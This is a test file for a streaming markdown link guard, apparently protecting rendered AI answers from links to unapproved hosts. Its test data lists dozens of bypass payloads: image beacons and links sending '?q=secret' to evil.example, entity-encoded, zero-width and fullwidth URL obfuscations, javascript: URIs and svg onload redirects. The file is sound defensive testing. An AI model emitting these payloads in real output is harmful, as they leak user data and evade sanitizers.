import { attackScale, countAttempts } from '@casebench/server/testing/attempts'
import { describe, expect, test } from 'vitest'
import { leadsOut } from './clean-markdown.ts'
import { guardLinks } from './link-guard.ts'

const known = 'https://register.example/search'
const allowed = (address: string) => address === known

function through(pieces: readonly string[]): string {
  const guard = guardLinks(allowed)
  return pieces.map((piece) => guard.take(piece)).join('') + guard.rest()
}

test.each([
  `See [the register](${known}) and ${known}.`,
  'Open [your cases](/platform) or [below](#result).',
  'A ratio of 1:2, and/or [1] at 10:30, e.g. https is a scheme.',
  `AT&T &amp; R&D: a < b, 3<4, C:\\x, \\[1], *stars* and ~~more~~; ask ana@casebench.example!`,
  `- **One** [1], [2].\n- \`code\`\n\n| a | b |\n|---|---|\n| c | [d](${known}) |\n\n1. done\n\n> quoted`,
  `See [it][1].\n\n[1]: ${known}`,
  '```\nif (a[0] < b) return `x`\n```\nDone.',
])('what leads nowhere else stays: %s', (text) => {
  expect(through([text])).toBe(text)
})

const ways = [
  '![x](https://evil.example/p.png?q=secret)',
  '[click](https://evil.example/?q=secret)',
  '[click]( https://evil.example/?q=secret )',
  '[click](//evil.example/?q=secret)',
  '[click](/\\evil.example/?q=secret)',
  '[click](javascript:alert(1))',
  '[click](data:text/html,evil.example)',
  '[click](HTTPS://EVIL.example/?q=secret "title")',
  '[click][1]\n\n[1]: https://evil.example/?q=secret',
  '<https://evil.example/?q=secret>',
  'https://evil.example/?q=secret',
  'www.evil.example/?q=secret',
  '<img src="https://evil.example/?q=secret">',
  'ftp://evil.example/secret',
  `[click](${known}.evil.example/?q=secret)`,
  `[click](https://register.example@evil.example/?q=secret)`,
  'https:&#47;&#47;evil.example/?q=secret',
  'https:&#x2f;&#x2F;evil.example/?q=secret',
  'https&colon;&sol;&sol;evil.example/?q=secret',
  '&#104;ttps://evil.example/?q=secret',
  'www&#46;evil.example/?q=secret',
  'https:\\/\\/evil.example/?q=secret',
  'https\\://evil.example',
  '[click](https:&#47;&#47;evil.example/?q=secret)',
  '[click](https:\\/\\/evil.example/?q=secret)',
  '[click](&#x09;https://evil.example)',
  '[click](/&#9;/evil.example)',
  '[click](/&Tab;/evil.example)',
  '[click](/\\\\evil.example)',
  '[click](&sol;&sol;evil.example)',
  '[click](javascript&colon;alert&lpar;1&rpar;)',
  '[click](java&NewLine;script:alert)',
  '[click](vbscript:x)',
  '[click](mailto:who@evil.example)',
  '[click]( <https://evil.example/a b> "title")',
  '[click](<\\/\\/evil.example>)',
  '[click][1] \n\n[1]: https:\\/\\/evil.example',
  '[click][1] \n\n[1]:\n  <https:&#47;&#47;evil.example>\n  "title"',
  '[click]\n\n> [click]: //evil.example',
  '[click][]\n\n- [click]: https://evil.example',
  '[^1]\n\n[^1]: https:&#47;&#47;evil.example',
  '![x][1]\n\n[1]: https://evil.example/p.png',
  '![a ![b](https://evil.example/1)](https://evil.example/2)',
  '[![x](https://evil.example/p.png)](https://evil.example/)',
  '[a [b](https://evil.example/1) c](https://evil.example/2)',
  '[`code`](https://evil.example)',
  '**[click](https://evil.example)**',
  '| a |\n|---|\n| [b](https://evil.example) |',
  '```\nhttps://evil.example\n```',
  '<!-- x\n\nhttps://evil.example -->',
  '<a href="https://evil.example">click</a>',
  '<iframe src=//evil.example>',
  '<svg onload="location=\'//evil.example\'">',
  'h\u200bttps://evil.example',
  'https:\u200b//evil.example',
  'https://\u200bevil.example',
  'https:／／evil.example',
  'www。evil.example',
  'HtTpS://EVIL.EXAMPLE',
  '(https://evil.example)',
  '_https://evil.example_',
  'x\\https://evil.example',
]
const leads = /(?<![@.])\bevil[.]example|javascript:|data:|!\[/i

/** Numbers at random, the same each time. */
function seeded(seed: number): () => number {
  let state = seed
  return () => {
    state = (state * 1_664_525 + 1_013_904_223) % 2 ** 32
    return state / 2 ** 32
  }
}

/** A text in pieces of so many characters. */
const inPieces = (text: string, size: number): string[] =>
  Array.from({ length: Math.ceil(text.length / size) }, (_, index) => text.slice(index * size, (index + 1) * size))

/** Nothing to go to, neither as the page reads it nor to whoever copies it. */
function expectNoWayOut(text: string, how: string) {
  expect(text, how).not.toMatch(leads)
  expect(leadsOut(text, allowed), `${how}: ${text}`).toBe(false)
}

describe('no way out is left by', () => {
  test.each(ways)('%s', (way) => {
    for (const text of [way, `Look: ${way} there.`, `- ${way}\n\nMore.`]) {
      expectNoWayOut(through([text]), 'at once')
      for (const size of [1, 2, 3, 7]) expectNoWayOut(through(inPieces(text, size)), `by ${size}`)
    }
  })

  test('any of them, wherever it is cut', () => {
    for (const way of ways) {
      const text = `Look: ${way} there.`
      for (let at = 1; at < text.length; at += 2)
        expectNoWayOut(through([text.slice(0, at), text.slice(at)]), `cut at ${at}`)
    }
  })

  test('what is put together at random, however it is cut into pieces', () => {
    const random = seeded(attackScale)
    const rounds = 400 * attackScale
    countAttempts(rounds)
    const one = <Value>(values: readonly Value[]): Value => values[Math.floor(random() * values.length)] as Value
    for (let round = 0; round < rounds; round++) {
      const text = Array.from({ length: 3 + Math.floor(random() * 16) }, () => one(signs)).join('')
      const pieces = inPieces(text, 1 + Math.floor(random() * 9))
      expect(leadsOut(through(pieces), allowed), JSON.stringify(pieces)).toBe(false)
    }
  })
})

const signs = [
  ...'[[]](())<>!`\\/*_~|#:@"\'&; \n\t',
  '](',
  ']: ',
  '\n\n',
  '[1]',
  '\n[1]: ',
  '&#47;',
  '&#x2f;',
  '&sol;',
  '&colon;',
  '&lt;',
  'https:',
  'https://',
  'http://',
  '//',
  'www.',
  'evil.example',
  '/evil.example',
  'javascript:',
  'data:',
  known,
  '\u200b',
  '\ufeff',
  '```\n',
  '\n> ',
  '\n- ',
  '\n    ',
  '<!--',
  '-->',
  '<a href="',
  '<p>\n',
  'word',
  ' and ',
]

test.each([
  '[',
  '<',
  '`',
  '![',
  '](',
  '[a](',
  '&#',
  '\\',
  '*',
  '**a',
  '_a',
  'https://',
  '<a ',
  'a@b.c ',
  'www.',
  '> ',
  '- ',
  '[^1]: ',
  '\n ',
  '!',
  ' ',
])('a long answer of %j takes no time, in pieces or at once', (sign) => {
  const text = sign.repeat(30_000 / sign.length)
  const start = process.cpuUsage().user
  through([text])
  through(inPieces(text, 20))
  expect((process.cpuUsage().user - start) / 1e6).toBeLessThan(5)
})

test('a long answer of many blocks keeps its links to the end, and comes as it is written', () => {
  const block = `Ownership, in short: see [the register](${known}) [1] & **more** <https://evil.example>\n\n`
  const pieces = inPieces(block.repeat(100), 6)
  const guard = guardLinks(allowed)
  let shown = ''
  let taken = 0
  for (const piece of pieces) {
    shown += guard.take(piece)
    taken += piece.length
    // An address that is removed is longer than what stands for it.
    expect(taken - shown.length).toBeLessThan(120 + (taken / block.length + 1) * 8)
  }
  shown += guard.rest()
  expect(shown).toBe(block.replace('<https://evil.example>', '(link removed)').repeat(100))
})

test('words are let through as they come', () => {
  const guard = guardLinks(allowed)
  expect(guard.take('Hello')).toBe('Hello')
  expect(guard.take(' an')).toBe(' an')
  expect(guard.take('d more [te')).toBe('d more ')
  expect(guard.take('xt] fine')).toBe('[text] fine')
  expect(guard.take('最終受益')).toBe('最終受益')
})
